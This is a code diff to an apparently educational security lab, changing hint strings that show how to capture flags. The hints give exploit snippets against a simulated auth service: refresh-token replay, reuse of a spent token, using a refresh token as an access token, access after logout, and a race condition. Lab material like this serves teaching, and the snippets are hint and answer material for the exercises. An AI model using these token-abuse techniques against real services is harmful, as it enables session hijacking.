@@ -98,7 +98,7 @@ REPLAY_HINTS = (
     'old = re.search(r\'"refresh_token": "([^"]+)"\', last_line).group(1)\n'
     'lab.client.post("/simulate/victim-refresh")  # bob moves on to a new token\n'
     'replayed = lab.client.post("/refresh", json={"refresh_token": old}).json()\n'
-    'lab.check_flag("refresh-replay", replayed["flag"])\n'
+    'flag_replay = replayed["flag"]\nlab.check_flag("refresh-replay", flag_replay)\n'
     "```",
 )
 
@@ -121,7 +121,7 @@ REUSE_HINTS = (
     'ahead = lab.client.post("/refresh", json={"refresh_token": current}).json()\n'
     'lab.client.post("/simulate/victim-refresh")  # bob reuses the token I spent\n'
     'still_mine = lab.client.post("/refresh", json={"refresh_token": ahead["refresh_token"]})\n'
-    'lab.check_flag("reuse-unnoticed", still_mine.json()["flag"])\n'
+    'flag_reuse = still_mine.json()["flag"]\nlab.check_flag("reuse-unnoticed", flag_reuse)\n'
     "```",
 )
 
@@ -139,7 +139,7 @@ TYPE_HINTS = (
     f"pair = {_LOGIN}\n"
     'as_refresh = {"Authorization": "Bearer " + pair["refresh_token"]}\n'
     'answer = lab.client.get("/api/me", headers=as_refresh).json()\n'
-    'lab.check_flag("type-confusion", answer["flag"])\n'
+    'flag_type = answer["flag"]\nlab.check_flag("type-confusion", flag_type)\n'
     "```",
 )
 
@@ -157,7 +157,7 @@ LOGOUT_HINTS = (
     f"pair = {_LOGIN}\n"
     'bearer = {"Authorization": "Bearer " + pair["access_token"]}\n'
     'lab.client.post("/logout", headers=bearer, json={"refresh_token": pair["refresh_token"]})\n'
-    'lab.check_flag("after-logout", lab.client.get("/api/me", headers=bearer).json()["flag"])\n'
+    'flag_logout = lab.client.get("/api/me", headers=bearer).json()["flag"]\nlab.check_flag("after-logout", flag_logout)\n'
     "```",
 )
 
@@ -190,7 +190,7 @@ RACE_HINTS = (
     '    won = [a["flag"] for a in burst() if ":race:" in a.get("flag", "")]\n'
     "    if won:\n"
     "        break\n"
-    'lab.check_flag("race", won[0])\n'
+    'flag_race = won[0]\nlab.check_flag("race", flag_race)\n'
     "```",
 )
 
